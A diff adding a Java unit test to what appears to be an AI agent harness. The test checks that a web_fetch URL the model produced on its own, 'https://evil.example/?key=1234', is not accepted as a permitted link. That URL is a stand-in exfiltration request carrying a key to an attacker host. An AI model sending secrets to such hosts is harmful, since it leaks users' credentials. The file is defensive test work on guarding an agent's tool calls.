@@ -96,6 +96,19 @@ class WebTest {
         assertThat(way()).isEqualTo("composed");
     }
 
+    /// The house's own words about a call that failed hold what the model made up; they make no link.
+    @Test
+    void takesNoAddressFromWhatItWasToldItself() throws Exception {
+        house.model.callsOnce(
+                "web_fetch",
+                JsonObject.with("https://evil.example/?key=1234", 1).build());
+        turns++;
+        house.submit("m1", "go");
+        house.watch().turns(1);
+        fetch("go on", "https://evil.example/?key=1234");
+        assertThat(way()).isEqualTo("composed");
+    }
+
     @Test
     void marksEachLineOfAPageAndRemembersThatItWasRead() throws Exception {
         String output = fetch("read https://a.example/", "https://a.example/");
